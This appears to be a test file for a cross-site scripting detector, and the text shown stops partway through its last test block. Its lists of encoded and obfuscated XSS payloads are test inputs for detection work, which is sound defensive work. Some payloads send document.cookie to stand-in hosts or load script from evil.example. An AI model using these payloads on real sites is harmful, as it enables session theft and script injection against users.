// XSS detector: the known gaps of libinjection (bare `javascript:` URLs, fullwidth and entity-encoded tags) must be
// detected, its known false positives (editor `style=` attributes) and ordinary form input must not be.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { detectXss, detectXssInRichText, detectXssInUrl } from '../../src/inspect/xss/index.js';

const ATTACKS: ReadonlyArray<readonly [string, string]> = [
  ['bare javascript: URL', 'javascript:alert(1)'],
  ['mixed-case scheme', 'JaVaScRiPt:alert(1)'],
  ['entity tab inside the scheme', 'java&#x09;script:alert(1)'],
  ['entity-encoded first letter', '&#106;avascript:alert(1)'],
  ['leading spaces', '   javascript:alert(1)'],
  ['fullwidth tags', '＜script＞alert(1)＜/script＞'],
  ['entity-encoded tags', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['numeric-entity img onerror', '&#60;img src=x onerror=alert(1)&#62;'],
  ['percent-encoded script tag', '%3Cscript%3Ealert(1)%3C/script%3E'],
  ['svg with slash separator', '<svg/onload=alert(1)>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['double-quote attribute breakout', '" onmouseover="alert(1)'],
  ['single-quote tag breakout', "'><script>alert(1)</script>"],
  ['iframe javascript src', '<iframe src="javascript:alert(1)">'],
  ['anchor data: URL', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['null-byte split tag', '<scr\0ipt>alert(1)</scr\0ipt>'],
  ['script string breakout', '";alert(1);//'],
  ['css expression', '<div style="width: expression(alert(1))">'],
  ['double percent encoding', '%253Cscript%253Ealert(1)%253C/script%253E'],
  ['JavaScript escapes', '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e'],
  // Legacy octal escapes of a JavaScript string outside strict mode: `\74` is `<`, `\156` is `n`.
  ['JavaScript octal escapes', '\\74svg o\\156load\\75alert\\501\\51\\76'],
  [
    'octal-escaped property names',
    "[]['\\146\\151\\154\\164\\145\\162']['\\143\\157\\156\\163\\164\\162\\165\\143\\164\\157\\162']('\\141\\154\\145\\162\\164\\50\\61\\51')()",
  ],
  ['UTF-7 encoded tag', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
  ['form-encoded UTF-7', '%2BADw-script%2BAD4-alert(1)'],
  ['namespaced script element', '<svg:script>alert(1)</svg:script>'],
  ['tagged template calling through .call', '[].sort.call`\u0024{alert}1`'],
  ['tagged template with spaces and comments', '[ ] . /**/ sort . call ` \u0024{ alert } 1 `'],
  ['global reached by a quoted name', 'top["al"+"ert"](1)'],
  ['parenthesised sink called', '(alert)(1)'],
  ['template breakout to a tagged sink', '`-alert`1`-`'],
  ['template breakout to a member tagged sink', '`-top.alert`1`-`'],
  ['sink call after a backtick in a comment', "';/*`*/alert(1)//"],
  ['string breakout giving a sink another name', 'x");$=alert, $(1);//'],
  ['timer given a string held in a global', 'setTimeout(name)'],
  ['timer given what a function expression returns', 'setTimeout(function(){return name}())'],
  ['sink call after a backtick in a regular expression', "'-/`/-alert(1)-'"],
  [
    'entity-escaped CSS with hex escapes',
    '&lt;div style=&quot;background-image:\\0075rl(javascript:alert(1))&quot;&gt;',
  ],
  ['tagged sink in a template substitution', 'x=`\u0024{alert`1`}`'],
  ['sink called through the comma operator', '(0, eval)(name)'],
  ['global reached by a computed name and called', 'top[/al/.source+/ert/.source](1)'],
  ['global reached by a number spelled in base 30', 'self[8680439..toString(30)](1)'],
  ['parenthesised global with a comment', '(document/*x*/)["cookie"]'],
  ['JSFuck', '(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]'],
  ['form-decoded JSFuck', '(![] [])[ []] (![] [])[! [] ! []] (!![] [])[ []]'],
  ['Netscape JavaScript entity', '<p title="&{alert(1)};">'],
  ['XML Events handler', '<x ev:event="load" ev:handler="#x"/>'],
  ['assignment to the page through document', 'document.querySelector("p").textContent="x"'],
  ['markup appended through document', 'document.body.innerHTML += "<b>x</b>"'],
  ['navigation through window', 'window.location = "javascript:alert(1)"'],
  ['markup written through self.document', 'self.document.body.innerHTML = "<b>x</b>"'],
  // The rules below keep these: a custom element's handler, a script URL with keywords beside names, CSV's neighbours.
  ['handler on a custom element', '<svg-icon onload=alert(1)>'],
  ['script URL with new beside a name', 'javascript:new Function(name)()'],
  ['script URL with typeof beside a call', 'javascript:typeof alert(1)'],
  ['script URL with a string holding spaces', "javascript:alert('a b')"],
  ['script URL whose words meet past a comment', 'javascript:alert(1)//a b'],
  ['HTML in a data: URL', 'data:text/html,<script>alert(1)</script>'],
  // A reviewer's payloads that ran in Chromium (2026-12-07), read in short and long values alike.
  ['script-string breakout to an optional call', '"-alert?.(1)-"'],
  ['script-string breakout to a call past a comment', "';alert/**/(1)//"],
  ['script-string breakout to a name starting with _', '";__x()//'],
  ['script-string breakout to a jQuery call', "';$.getScript('//evil.example/x.js')//"],
  ['script-string breakout to new, stealing the cookie', "\";new Image().src='//x.test/?'+document.cookie//"],
  ['script-string breakout by division', '"/alert?.(1)//'],
  ['script-string breakout by comparison', '"==alert(1)//'],
  ['quoted handler value opening with a space', '" onmouseover=" alert?.(1)'],
  ["eight spaces before a handler's equals sign", '" onmouseover        =alert?.(1)//'],
  ['onerror given a sink in a block, then a throw', "';{onerror=alert}throw 1//"],
  ['instanceof joining a call', '" instanceof alert(1)//'],
  ['script-string breakout inside what reads as a tag', "<b';alert(1)//"],
  ['script-string breakout by a less-than sign', "'<alert(1)//"],
  ['quoted handler value opening with a tab', "' onmouseover='\talert?.(1)"],
];

/**
 * Not read after the padding of the long-value test: a long value finds a breakout from the call it makes, and
 * some make none there; a URL is one at the value's start or after a delimiter, and that padding ends in `!\n`.
 */
const SHORT_ONLY_ATTACKS: ReadonlyArray<readonly [string, string]> = [
  // A second reviewer's evasions of this round's rules (2026-12-07): they ran in Chromium 156.
  ['a CSV data: URL, which a script element runs', 'data:text/csv,print()'],
  ['javascript: with an HTML-like comment, then a new line', 'javascript:-->a b%0Aprint()'],
  ['javascript: with a hashbang comment', 'javascript:#!a b\u2028print()'],
  ['javascript: with a using declaration', 'javascript:{using a=print()}'],
  ["an array literal's method given a sink", "'-[1].find(alert)-'"],
  ['the location assigned, stealing the cookie', "\";location='//x.test/?'+document.cookie//"],
];

const BENIGN = [
  'a < b and c > d',
  'x<3',
  'I <3 you',
  '1 < 2',
  "O'Connell",
  'Kent_Jaskolski@hotmail.com',
  'https://example.com/?a=1&b=2',
  'https://magnifique-personnel.com//quo-adipisci-eos?id=1026&ref=par',
  '{"name":"Horacio","email":"h@gmail.com","city":"Parla"}',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
  'for loop in javascript',
  'JavaScript: The Good Parts',
  // Titles and labels after a scheme's name that no script parser accepts: two names side by side.
  'JavaScript: The Good Parts (2008)',
  'JavaScript: 5 years (expert)',
  'Learn JavaScript: Variables (part 1)',
  // Custom elements and components named after elements that load or run things: another element for every parser.
  '<script-loader>',
  '<link-preview></link-preview>',
  '<iframe-wrapper src="/embed"></iframe-wrapper>',
  // Quotes, then an operator spaced as prose spaces it: a breakout glues its name to `/ % ^ < >`.
  "'50'% off (today)",
  'He said "hi" < then(1)',
  // Prose, paths, patterns and passwords after a quote and an operator: a breakout there calls a sink.
  "She said 'yes'/no(maybe)",
  'grep "^Error(s)" log.txt',
  "regex '^user(name)?$'",
  "GET '/Products(1)'",
  ']"^EZfT3A`a',
  '"Acme"; location=Berlin',
  // A handler named in prose with a quoted value that is no code.
  'the onload=" attribute"',
  'The script is written from right to left',
  'the onload event fires late',
  '"Dr. Who" and coffee',
  "4'+X+4'+WOOD",
  'WFoA"[MA`*3s',
  '  onab= ',
  ' I Love you <3',
  'Find your solution here -> link',
  '<b>bold</b> and <i>italic</i>',
  '<p style="color: red; text-align: center">Hello</p>',
  '<a href="https://example.com/page?x=1">link</a>',
  // Code in prose, which compares, calls and assigns but reaches no page or global through a quoted name.
  'if (a < b) { x = y; }',
  'for (let i = 0; i < n; i++) { sum += a[i]; }',
  'console.log(`value: \u0024{x}`)',
  'fn.call(this, `template`)',
  'items["name"] = value;',
  "obj['key'] + other['x']",
  'a && {b: 1}',
  'Use document.cookie to read cookies in the browser.',
  'Set window.location to redirect.',
  // Prose in support tickets and forums that names code without being code.
  'Set window.location = url to redirect',
  'the page shows alert(1) when I click save',
  'Why does alert("hi") not show in Safari?',
  'Send a notice (alert)(optional)',
  '(alert) (1 of 3)',
  'curry: f(x)(y)',
  'handlers[type](event); self[key](value); frames[0]()',
  'document.title == "Home"',
  // Prose and form input with the characters the new rules start at.
  'Price: $5 (50% off) & free shipping',
  'Tom & Jerry; R&D {team}',
  'Meeting at 10:30 (room A) - bring notes!',
  'Data: see the attached report',
  'data: 1, 2, 3',
  'C++ and C# are languages; A+B=C',
  // Backslashes before digits: Windows paths, regular-expression back-references.
  'C:\\2024\\123\\report.pdf',
  'match (a)(b) then \\1\\2 again',
  'jane.doe+news@example.org',
  '+1 (555) 010-0199',
  'vote +AAA rating',
  '[ ] [x] [ ] checklist (done!)',
  'https://shop.example.com/search?q=shoes&size=42&color=red%20blue',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_0) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15',
  '{"user":{"name":"Zoë","tags":["a","b"],"url":"https://x.test/?a=1&b=2"}}',
  // Markdown's inline code: flags and names between backticks, which JavaScript reads as template literals.
  'You can enable `--harmony` option in two ways:',
  'Use `input(prompt)` to read a line from stdin.',
  '- docs(readme): add axios integration document [`#425`](https://github.com/form-data/form-data/pull/425)',
  'Download the document [PDF, 1.2 MB](https://example.com/doc.pdf)',
  'window[cfg.callback](data)',
  'He said "hi"; x = alert level',
  "/notify?msg='Saved'&type=alert",
  'const msg = "Saved", notify = alert;',
  // A timer given a function written in place runs no string.
  'setTimeout(() => save(draft), 500);',
  'window.setInterval(() => poll(), 1000);',
  // Python and Ruby assign attributes of `self` all the time.
  'self.primary_key = "customer_id"',
  'The `eval()` function evaluates JavaScript code represented as a string.',
  'Passing a string instead of a function to `setTimeout(fn, 0)` has the same problems',
  'for example `-abc` is equivalent to `-a -b -c`.',
  'The value may be either a `String` or a `Function` returning a',
  '- `visitor: Function` - user-defined visitor function that will be called recursively',
  // Markdown: images with an empty alt text, links, inline code.
  '# Title\n\n![](https://example.com/img.png)\n\n[link](https://example.com) and `code`',
  '![alt text](https://example.com/a.png "Title")',
];

describe('detectXss', () => {
  for (const [name, value] of [...ATTACKS, ...SHORT_ONLY_ATTACKS]) {
    it(`detects ${name}`, () => {
      const verdict = detectXss(value);
      assert.equal(verdict.detected, true, value);
      assert.equal(typeof verdict.fingerprint, 'string');
      // A short name from the detector's own tables, never the value.
      assert.match(verdict.fingerprint ?? '', /^[a-z?!-]+(:[\w?:*-]{1,32})?$/);
      assert.ok(!verdict.fingerprint?.includes(value));
    });
  }
  for (const value of BENIGN) {
    it(`passes ${JSON.stringify(value)}`, () => assert.equal(detectXss(value).detected, false));
  }
  it('names what it found', () => {
    assert.equal(detectXss('<script>alert(1)</script>').fingerprint, 'tag:script');
    assert.equal(detectXss('<img src=x onerror=alert(1)>').fingerprint, 'attr:onerror');
    assert.equal(detectXss('javascript:alert(1)').fingerprint, 'url:javascript');
    assert.equal(detectXss('" onmouseover="alert(1)').fingerprint, 'attr-breakout:onmouseover');
    assert.equal(detectXss('<p style="x:expression(alert(1))">').fingerprint, 'style:expression');
    assert.equal(detectXss('+ADw-script+AD4-').fingerprint, 'tag:script');
    assert.equal(detectXss('[].sort.call`\u0024{alert}1`').fingerprint, 'js:tagged-call');
    assert.equal(detectXss('self["alert"](1)').fingerprint, 'js:global-access');
    assert.equal(detectXss('&{alert(1)};').fingerprint, 'js:entity');
    assert.equal(detectXss('(![]+[])[+[]]+(![]+[])[!+[]+!+[]]').fingerprint, 'js:jsfuck');
    assert.equal(detectXss('document.body.innerHTML="x"').fingerprint, 'js:dom-write');
  });
  it('reports the structure an escape hid before what follows it', () => {
    assert.equal(detectXss('java&#x09;script:alert(1)').fingerprint, 'url:javascript');
    assert.equal(detectXss('&lt;img src=x onerror=alert(1)&gt;').fingerprint, 'attr:onerror');
  });
});

describe('detectXssInUrl', () => {
  it('flags script and data schemes after browser normalisation', () => {
    for (const url of [
      'javascript:alert(1)',
      ' \u0001java\tscript:alert(1)',
      '&#106;avascript:x',
      'data:image/png;base64,AAAA',
      'VBScript:msgbox(1)',
      'javascript%3Aalert(1)',
    ]) {
      assert.equal(detectXssInUrl(url).detected, true, url);
    }
  });
  it('flags a script scheme split by any number of tabs and newlines, which the URL parser removes', () => {
    const tabs = '\t'.repeat(60);
    assert.equal(detectXssInUrl(`java${tabs}script:location=name`).detected, true);
    assert.equal(detectXssInUrl(`java${'%0a'.repeat(70)}script:location=name`).detected, true);
    assert.equal(detectXss(`<a href="java${'&Tab;'.repeat(70)}script:location=name">x</a>`).detected, true);
    assert.equal(detectXssInRichText(`<a href="java${tabs}script:location=name">x</a>`).detected, true);
  });
  it('flags a script scheme behind thousands of escaped controls at the start of a long URL', () => {
    // The URL parser strips them once the value is decoded; a long value is read in windows from its start.
    for (const blank of [
      '%00',
      '\\u0000',
      '\\x00',
      '%u0000',
      '%2500',
      '&#0;',
      '&#00000000009;',
      '%20',
      '%09',
    ]) {
      const url = `${blank.repeat(3_000)}javascript:location=name`;
      assert.equal(detectXssInUrl(url).fingerprint, 'url:javascript', blank);
    }
    assert.equal(detectXssInUrl(`${'%20'.repeat(3_000)}https://example.com/?q=1`).detected, false);
    // Tabs and newlines inside the scheme, raw or escaped, past the first window of a long value.
    const splits = [
      '\t'.repeat(2_100),
      '\n'.repeat(5_000),
      '%09'.repeat(1_400),
      '&Tab;'.repeat(900),
      '&#x000000000A;'.repeat(400),
    ];
    for (const split of splits) {
      const url = `java${split}script:location=name`;
      assert.equal(
        detectXssInUrl(url).fingerprint,
        'url:javascript',
        `${split.slice(0, 5)} x${split.length}`,
      );
    }
    assert.equal(detectXssInUrl('https://a.com/x\nhttps://b.com/y\n'.repeat(300)).detected, false);
  });
  it('passes ordinary URLs', () => {
    for (const url of [
      'https://example.com/?a=1&b=2',
      'mailto:someone@example.com',
      '/relative/path?q=1',
      'http://x.test/a%20b',
    ]) {
      assert.equal(detectXssInUrl(url).detected, false, url);
    }
  });
});

describe('detectXssInRichText', () => {
  it('passes editor formatting', () => {
    for (const html of [
      '<p style="color: red; text-align: center">Hello</p>',
      '<b>bold</b> and <i>italic</i>',
      '<a href="https://example.com/a?b=1&amp;c=2">x</a><img src="https://example.com/i.png">',
      '<p>a &lt;script&gt; tag is text here</p>',
      '<p>javascript:alert(1) written as text</p>',
      '<p style="font-family: Arial, sans-serif; color: #333; margin: 0 auto">Hello</p>',
      '<span style="background-color: rgb(255, 255, 0)">marked</span>',
      '<table style="border-collapse: collapse; width: 100%"><tr><td style="padding: 4px">1</td></tr></table>',
      '<p>I &lt;3 you &amp; a &lt; b</p>',
    ]) {
      assert.equal(detectXssInRichText(html).detected, false, html);
    }
  });
  it('flags what can run script', () => {
    for (const html of [
      '<p>x</p><script>alert(1)</script>',
      '<iframe src="https://example.com"></iframe>',
      '<a href="java&#x09;script:alert(1)">x</a>',
      '<img src="x" onerror="alert(1)">',
      '<p style="background: url(javascript:alert(1))">x</p>',
      '<p style="-moz-binding: url(x.xml#x)">x</p>',
      '<form action="javascript:alert(1)"><button>x</button></form>',
      '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
      '<base href="https://evil.example/">',
      '<style>p { width: expression(alert(1)) }</style>',
    ]) {
      assert.equal(detectXssInRichText(html).detected, true, html);
    }
  });
});

/** Deterministic pseudo-random generator, so the long inputs are the same on every run. */
function seeded(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state * 1103515245 + 12345) & 0x7fffffff;
    return state / 0x7fffffff;
  };
}

describe('long values', () => {
  const MIB = 1 << 20;
  const random = seeded(3);
  const words = 'the quick brown fox jumps over lazy dog while developers discuss tickets'.split(' ');
  const pick = () => words[Math.floor(random() * words.length)] ?? 'x';
  const build = (part: (k: number) => string): string => {
    const parts: string[] = [];
    let length = 0;
    for (let k = 0; length < MIB; k++) {
      const next = part(k);
      parts.push(next);
      length += next.length;
    }
    return parts.join('');
  };
  const digits = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  const base64 = `${build(() => digits[Math.floor(random() * 64)] ?? 'A')}==`;
  const prose = build(() => {
    const r = random();
    const gap =
      r < 0.01 ? ' & ' : r < 0.02 ? ' 50% ' : r < 0.03 ? ' AT&T ' : r < 0.04 ? ' (see: note) ' : ' ';
    return `${pick()}${r < 0.05 ? ', "quoted" ' : r < 0.055 ? ' if a < b then ' : r < 0.06 ? " don't " : gap}`;
  });
  const benign: Array<readonly [string, string]> = [
    ['1 MiB of one letter', 'a'.repeat(MIB)],
    ['1 MiB of base64', base64],
    ['1 MiB of prose with &, %, quotes and "a < b"', prose],
    [
      '1 MiB of JSON text',
      `[${build((k) => `{"id":${k},"name":"${pick()} ${pick()}","tags":["${pick()}","${pick()}"],"ok":${k % 2 === 0}},`)}{}]`,
    ],
    [
      '1 MiB of CSV',
      build(
        (k) =>
          `${k},"${pick()}, ${pick()}",user${k}@example.com,${k % 1000}.5,2024-01-0${k % 9} 10:3${k % 10}:00\n`,
      ),
    ],
  ];
  // Dense with candidates (a `%`, `&` or `=` every few units, or folded fullwidth punctuation): reading all of them
  // costs more than the 5 ms bound allows, so they fail closed, always the same way. Smaller ones pass.
  const dense: ReadonlyArray<readonly [string, string]> = [
    [
      '1 MiB of URLs',
      build((k) => `https://shop.example.com/search?q=${pick()}%20${pick()}&page=${k}&sort=price#top\n`),
    ],
    [
      '1 MiB of encoded redirects',
      build((k) => `/login?next=https%3A%2F%2Fexample.com%2Fa%3Fb%3D${k}%26c%3Dd&lang=en\n`),
    ],
  ];
  for (const [name, value] of dense) {
    it(`passes ${name} when an eighth as long, and fails it closed at full length, every time`, () => {
      const eighth = value.slice(0, MIB / 8);
      for (const detect of [detectXss, detectXssInUrl]) {
        assert.deepEqual(detect(eighth), { detected: false }, detect.name);
        const first = detect(value);
        assert.ok(
          !first.detected || first.fingerprint === 'work-limit',
          `${detect.name}: ${first.fingerprint}`,
        );
        for (let run = 0; run < 2; run++) assert.deepEqual(detect(value), first, detect.name);
      }
    });
  }
  // Legitimate text in any script is read to its end: a two-byte value is folded and searched through a one-byte
  // shadow, and that pass, not its fullwidth punctuation, is what it pays for.
  benign.push(
    [
      '1 MiB of CJK prose with fullwidth punctuation',
      build(
        (k) =>
          `${pick()}\u3001\u6587\u5b57\uff0c\u7b54${k % 8 === 0 ? '\uff08\u6ce8\uff09\uff1a' : '\u3002'}`,
      ),
    ],
    [
      '1 MiB of Chinese sentences',
      '\u4e2d\u6587\u7684\u53e5\u5b50\uff0c\u5305\u62ec\u6807\u70b9\u7b26\u53f7\u3002'.repeat(MIB / 13),
    ],
    [
      '1 MiB of Cyrillic prose',
      '\u041f\u0440\u0438\u0432\u0435\u0442, \u043a\u0430\u043a \u0434\u0435\u043b\u0430? '.repeat(MIB / 18),
    ],
  );
  // Verdicts are counted in work units, never timed: every run reads the whole value and agrees.
  for (const [name, value] of benign) {
    it(`passes ${name}, every time`, () => {
      for (let run = 0; run < 3; run++) {
        for (const detect of [detectXss, detectXssInUrl, detectXssInRichText]) {
          assert.deepEqual(detect(value), { detected: false }, `${detect.name} run ${run}`);
        }
      }
    });
  }
  // `<scr\0ipt>` is a tag to a C-based parser. A long value with few NULs loses them natively, one dense with them
  // in a JavaScript pass: both readings must see the tag.
  it('finds a tag split by a NUL in a long value, its other NULs sparse or dense', () => {
    const values: ReadonlyArray<readonly [string, string, string]> = [
      ['sparse', `${`${'lorem ipsum '.repeat(40)}\0`.repeat(10)}<scr\0ipt>alert(1)</script>`, 'tag:script'],
      ['dense', `${'a\0'.repeat(4096)}<img src=x on\0error=alert(1)>`, 'attr:onerror'],
    ];
    for (const [name, value, fingerprint] of values) {
      for (const detect of [detectXss, detectXssInUrl, detectXssInRichText]) {
        assert.equal(detect(value).fingerprint, fingerprint, `${name} ${detect.name}`);
      }
    }
  });
  const padding: ReadonlyArray<readonly [string, string]> = [
    ['a letter', 'a'.repeat(MIB)],
    ['base64', base64],
    ['prose with & and %', prose],
  ];
  const payloads = [
    '<script>alert(1)</script>',
    '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
    '&lt;img src=x onerror=alert(1)&gt;',
    '%253Csvg%2Fonload%253Dalert(1)%253E',
    ' " onmouseover="alert(1)',
    ' javascript&colon;alert(1)',
  ];
  for (const [name, pad] of padding) {
    it(`finds payloads after 1 MiB of ${name}`, () => {
      for (const payload of payloads) {
        const verdict = detectXss(`${pad} ${payload}`);
        assert.equal(verdict.detected, true, payload);
        assert.notEqual(verdict.fingerprint, 'work-limit', payload);
      }
      assert.equal(detectXssInRichText(`${pad}<img src=x onerror=alert(1)>`).fingerprint, 'attr:onerror');
    });
  }
  it('reads a long value as a short one reads it', () => {
    // Lines of prose, each ended as no statement continues past (`amet.\ndocument` would be a member chain).
    const pad = 'lorem ipsum dolor sit amet!\n'.repeat(100);
    for (const [, attack] of ATTACKS) assert.equal(detectXss(`${pad}${attack}`).detected, true, attack);
    for (const value of BENIGN) assert.equal(detectXss(`${pad}${value}`).detected, false, value);
  });
  it('reads escapes of punctuation as a short value does', () => {
    const pad = 'lorem ipsum dolor sit amet!\n'.repeat(100);
    for (const value of ['&#39;&#x2F;%27%2F\\x27 quoted', '&page=2&lang=en&amp=1', '%3Cb%3E&#60;i&#62;'])
      assert.equal(detectXss(`${pad}${value}`).detected, detectXss(value).detected, value);
    for (const attack of ['&#x6A;avascript:alert(1)', '&lt;svg onload=alert(1)&gt;', '&{alert(1)};'])
      assert.equal(detectXss(`${pad} ${attack}`).detected, true, attack);
  });
  it('reports a value dense with markup candidates, always the same way', () => {
    const dense = '<a x=y onclick=z>'.repeat(MIB / 17);
    assert.equal(detectXssInRichText(dense).fingerprint, 'attr:onclick');
    const candidates = '<a <a <a '.repeat(MIB / 9);
    const first = detectXss(candidates);
    for (let run = 0; run < 3; run++) assert.deepEqual(detectXss(candidates), first);
  });
});

// A long value (2048 code units and more) is read through its candidates, a short one in full: padding a payload
// with prose past that length must not hide it. Escaped quotes, spaces and slashes (`%22;f(1)`, `x%20onerror=`),
// long runs of spaces or controls inside a construct, and comments after a `[` are where the two readings parted.
describe('padding past the long-value length', () => {
  // Each line of prose ends as no statement continues past (`amet.\ndocument` would be a member chain, and `amet
  // alert(1)` reads as prose).
  const PAD = 'lorem ipsum dolor sit amet!\n'.repeat(100);
  const REVIEWED: readonly string[] = [
    '%22%20autofocus%20onfocus=location=name//',
    '%22;foo(1)//',
    '&quot;;foo(1)//',
    '\\x22;foo(1)//',
    'x%20onerror=foo(1)',
    '%27onclick=foo(1)',
    `"${' '.repeat(120)};foo(1)`,
    `document.body.innerHTML${' '.repeat(9)}="<b>x"`,
    ` javascript${'\t'.repeat(9)}:x.y`,
    '(self)[ /**/ "cookie"]',
    `self[${' '.repeat(9)}"alert"](1)`,
    // A run of escaped spaces wider than the window an escape opens: read back from the call.
    `%22${'%20'.repeat(40)};foo(1)//`,
    `&quot;${'&#32;'.repeat(100)};foo(1)//`,
    `\\x22;${'\\x20'.repeat(100)}foo(1)//`,
    `"${'%20'.repeat(100)};foo(1)//`,
    // Escaped dots and `=` in a member chain: the name after the escape is a member.
    'document%2Ebody%2EinnerHTML="x"',
    'document&#46;body&#46;innerHTML="x"',
    'document\\x2Etitle%3D%22x%22',
    '[]&#46;sort&#46;call`\u0024{alert}1`',
    'document.querySelector(%22p%22).textContent%3D%22XSS%22',
  ];
  // One or more payloads of each rule a long value reads at a needle or through an escape's window.
  const PAYLOADS: readonly string[] = [
    ...REVIEWED,
    '";alert(1)//',
    "'-foo`1`-'",
    '%27-foo(1)-%27',
    '&#34;;foo(1)//',
    '\\u0022;foo(1)//',
    '%22%3Bfoo(1)//',
    '%22%29%3B%20foo(1)//',
    '"%3B;foo(1)',
    "';x.y(%29",
    `";${' '.repeat(120)}foo(1)`,
    `"${' '.repeat(120)};foo\`1\``,
    `%22${' '.repeat(300)};foo(1)`,
    `'${'\t'.repeat(50)}+foo(1)`,
    '" onmouseover="alert(1)',
    '%22onmouseover=foo(1)',
    'x%2Fonclick=foo(1)',
    '%2F%2Fonclick=foo(1)',
    'x%3Bonclick=foo(1)',
    'x%20javascript:x.y(1)',
    '%3Bjavascript:alert(1)',
    'url=java&#x09;script:alert(1)',
    'document.body.innerHTML/**/ = "<b>x"',
    'document%20.body.innerHTML="x"',
    'document.body.innerHTML%20=%20"x"',
    '%3Bdocument.body.innerHTML="x"',
    'self[%22cookie%22]',
    'top[%20"cookie"]',
    'self%20["alert"](1)',
    'alert%20(1)',
    '%29alert(1)',
    '%3B alert(1)',
    '[].sort.call`\u0024{alert}1`',
    '<img src=x onerror=alert(1)>',
    '%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E',
  ];
  it('detects each reviewed payload padded as it does unpadded', () => {
    for (const attack of REVIEWED) {
      assert.equal(detectXss(attack).detected, true, attack);
      const padded = detectXss(`${PAD}${attack}`);
      assert.equal(padded.detected, true, attack);
      assert.notEqual(padded.fingerprint, 'work-limit', attack);
    }
  });
  it('detects a padded payload whenever it detects the payload alone, whatever the prose', () => {
    const word = fc.constantFrom(
      'lorem',
      'ipsum',
      'the',
      'quick',
      'brown',
      'fox',
      'tickets',
      'a',
      'of',
      'co-op',
    );
    const gap = fc.constantFrom(' ', ' ', ' ', ', ', '; ', '. ', '\n', ' (see note) ', " don't ", ' 50% ');
    const prose = fc
      .array(fc.tuple(word, gap), { minLength: 420, maxLength: 700 })
      .map((parts) => `${parts.map(([w, g]) => w + g).join('')}!\n`);
    fc.assert(
      fc.property(prose, fc.constantFrom(...PAYLOADS), (pad, attack) => {
        assert.ok(pad.length + attack.length >= 2048);
        if (!detectXss(attack).detected) return;
        const padded = detectXss(`${pad}${attack}`);
        assert.equal(padded.detected, true, attack);
        assert.notEqual(padded.fingerprint, 'work-limit', attack);
      }),
      { numRuns: 300 },
    );
    for (const attack of PAYLOADS) assert.equal(detectXss(attack).detected, true, attack);
  });
  it('reads a breakout across any run of escaped spaces, however long', () => {
    for (const space of ['%20', '&#32;', '\\x20']) {
      const attack = `%22${space.repeat(5000)};foo(1)//`;
      assert.equal(detectXss(attack).fingerprint, 'js-breakout', space);
      assert.equal(detectXss(`${PAD}${attack}`).fingerprint, 'js-breakout', space);
      // The same run with no quote before it is prose.
      assert.equal(detectXss(`x${space.repeat(5000)};foo(1)//`).detected, false, space);
    }
  });
  it('keeps encoded prose, JSON and redirects clean when padded', () => {
    for (const value of [
      'hello%20world%2C%20this%20is%20fine',
      '%7B%22a%22%3A%22b%22%2C%22c%22%3A%5B1%2C2%5D%7D',
      '&quot;quoted&quot;, &#39;single&#39; and a / slash',
      'next=https%3A%2F%2Fexample.com%2Fa%2Fb%3Fc%3D1',
      '%22Dr.%20Who%22%20and%20coffee',
      'end of a sentence%2E Next one (see) there',
      'one&#46; two&#46; three (four)',
    ]) {
      assert.equal(detectXss(value).detected, false, value);
      assert.equal(detectXss(`${PAD}${value}`).detected, false, value);
    }
  });
});

// A script-string breakout (`";alert(1)//`) is read as JavaScript reads it: past the closing quote, JavaScript's
// WhiteSpace and LineTerminator separate tokens, raw or escaped (the no-break space, VT, the byte-order mark, the
// line and paragraph separators, every Zs space), where an HTML attribute reads them as text.
describe('JavaScript spaces in a script-string breakout', () => {
  const PAD = 'lorem ipsum dolor sit amet!\n'.repeat(100);
  const WIDE_PAD = '\u4e2d\u6587\u7684\u53e5\u5b50\uff0c\u5305\u62ec\u6807\u70b9\u3002'.repeat(300);
  const SPACES: ReadonlyArray<readonly [string, string]> = [
    ['no-break space', '\u00a0'],
    ['line separator', '\u2028'],
    ['paragraph separator', '\u2029'],
    ['byte-order mark', '\ufeff'],
    ['em space', '\u2003'],
    ['Ogham space mark', '\u1680'],
    ['narrow no-break space', '\u202f'],
    ['vertical tab', '\v'],
    ['percent-encoded no-break space', '%C2%A0'],
    ['percent-encoded line separator', '%E2%80%A8'],
    ['percent-encoded byte-order mark', '%EF%BB%BF'],
    ['IIS-encoded paragraph separator', '%u2029'],
    ['percent-encoded vertical tab', '%0B'],
    ['decimal reference to the no-break space', '&#160;'],
    ['hexadecimal reference to the line separator', '&#x2028;'],
    ['JavaScript escape of the no-break space', '\\u00a0'],
    ['JavaScript escape of the vertical tab', '\\x0b'],
  ];
  for (const [name, space] of SPACES) {
    it(`reads a ${name} as a space around the operator, short and padded`, () => {
      for (const attack of [
        `x";${space}foo(1)//`,
        `x"${space};foo(1)//`,
        `x'${space}-${space}foo\`1\`-'`,
        `x%22;${space.repeat(40)}foo(1)//`,
      ]) {
        assert.equal(detectXss(attack).fingerprint, 'js-breakout', attack);
        assert.equal(detectXss(`${PAD}${attack}`).fingerprint, 'js-breakout', `padded ${attack}`);
        assert.equal(
          detectXss(`${WIDE_PAD}${attack}`).fingerprint,
          'js-breakout',
          `two-byte padded ${attack}`,
        );
      }
    });
  }
  it('reads a no-break space after a quote in HTML as text, not as the space before an attribute', () => {
    for (const value of ['x"\u00a0onfocus=foo(1) autofocus x="', '"Dr. Who"\u00a0- a show (see below)']) {
      assert.equal(detectXss(value).detected, false, value);
      assert.equal(detectXss(`${PAD}${value}`).detected, false, value);
    }
  });
});

// The scratch buffers a value is decoded into are shared between calls: a rule that read past the value's end
// would see the previous value's units, and answer differently for the same value.
describe('verdicts independent of the previous value', () => {
